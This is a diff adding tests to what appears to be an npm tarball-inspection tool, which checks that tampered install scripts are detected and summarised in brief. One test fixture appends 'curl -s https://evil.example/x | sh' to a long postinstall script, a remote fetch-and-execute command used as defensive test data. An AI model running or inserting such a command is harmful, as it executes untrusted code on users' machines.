@@ -1,5 +1,5 @@
 import { RULE_FIELDS } from '../../../src/core/inspection';
-import { bundledNames, effectiveInstallScripts, inspectTarball, normalizedBins, sanitizeManifest } from '../../../src/core/manifest-compare';
+import { bundledNames, effectiveInstallScripts, inspectTarball, mismatchInBrief, normalizedBins, sanitizeManifest } from '../../../src/core/manifest-compare';
 import { readTarballManifest } from '../../../src/core/tarball-manifest';
 import { buildTarball, integrityOf } from '../../support/tarball';
 
@@ -56,6 +56,41 @@ describe('inspectTarball', () => {
     expect(inspect({ ...base, scripts: { install: 'a' } }, { ...base, scripts: { install: 'b' } }).mismatches[0]).toMatchObject({ field: 'installScripts' });
     expect(inspect({ ...base, scripts: { install: 'a' } }, base).mismatches[0]).toEqual({ field: 'installScripts', declared: { install: 'a' }, actual: {} });
     expect(inspect({ ...base, scripts: { prepare: 'x', postinstall: '' } }, { ...base, scripts: { build: 'y' } }).mismatches).toEqual([]);
+  });
+
+  it('shows two long scripts that differ only past the display length from where they part', () => {
+    const long = `node scripts/setup.js ${'--flag '.repeat(300)}`.trim();
+    const result = inspect({ ...base, scripts: { install: 'make', postinstall: long } }, { ...base, scripts: { install: 'make', postinstall: `${long} && curl -s https://evil.example/x | sh` } });
+    const [m] = result.mismatches as Array<{ field: string; declared: Record<string, string>; actual: Record<string, string> }>;
+    expect(m.field).toBe('installScripts');
+    expect(m.declared.install).toBe('make');
+    expect(m.actual.install).toBe('make');
+    expect(m.declared.postinstall).toMatch(/^\.\.\.[-a-z ]+ --flag$/);
+    expect(m.actual.postinstall).toMatch(/^\.\.\.[-a-z ]+ --flag && curl -s https:\/\/evil\.example\/x \| sh$/);
+    expect(m.declared.postinstall).not.toBe(m.actual.postinstall);
+    expect(mismatchInBrief(result.mismatches[0])).toBe('postinstall script changed');
+    // Scripts that differ early are shown from their start, as before.
+    expect(inspect({ ...base, scripts: { install: 'a' } }, { ...base, scripts: { install: 'b' } }).mismatches[0]).toEqual({ field: 'installScripts', declared: { install: 'a' }, actual: { install: 'b' } });
+  });
+
+  it('says each mismatch in a few words, naming what differs without quoting long values', () => {
+    const brief = (declared: Record<string, unknown>, actual: Record<string, unknown>) => inspect(declared, actual).mismatches.map(mismatchInBrief);
+    const script = 'x'.repeat(2000);
+    expect(brief(base, { ...base, scripts: { postinstall: script } })).toEqual(['postinstall script added']);
+    expect(brief({ ...base, scripts: { preinstall: 'a', install: 'b' } }, { ...base, scripts: { install: 'c', postinstall: script } })).toEqual([
+      'preinstall script removed, install script changed, postinstall script added',
+    ]);
+    expect(brief({ name: 'pkg', version: '1.0.0', hasInstallScript: false }, { name: 'pkg', version: '1.0.0', scripts: { postinstall: script } })).toEqual(['postinstall script added']);
+    expect(brief({ name: 'pkg', version: '1.0.0', hasInstallScript: true }, { name: 'pkg', version: '1.0.0' })).toEqual(['install scripts removed']);
+    expect(brief(base, { ...base, name: 'evil', version: '9.9.9' })).toEqual(["name is 'evil'", "version is '9.9.9'"]);
+    expect(brief(base, { ...base, license: 'GPL-3.0-only' })).toEqual(["license is 'GPL-3.0-only', not 'MIT'"]);
+    expect(brief(base, { ...base, dependencies: { ...base.dependencies, evil: script } })).toEqual(['dependencies.evil added']);
+    const many = Object.fromEntries(Array.from({ length: 14 }, (_, i) => [`dep${String(i).padStart(2, '0')}`, '1.0.0']));
+    expect(brief(base, { ...base, dependencies: { ...base.dependencies, ...many } })).toEqual(['dependencies.dep00 added, dependencies.dep01 added, dependencies.dep02 added and 11 more']);
+    // A stored mismatch whose two displays agree (older inspections cut both at 120 characters) names the scripts it has.
+    expect(mismatchInBrief({ field: 'installScripts', declared: { postinstall: 'a…' }, actual: { postinstall: 'a…' } })).toBe('postinstall script changed');
+    expect(mismatchInBrief({ field: 'installScripts', declared: undefined, actual: { install: 'x' } })).toBe('install script added');
+    expect(mismatchInBrief({ field: 'name', declared: 'pkg', actual: `\u001b[31m${'n'.repeat(100)}` })).toMatch(/^name is '\?\[31mn+\.\.\.'$/);
   });
 
   it('counts a binding.gyp without install or preinstall as `node-gyp rebuild`', () => {
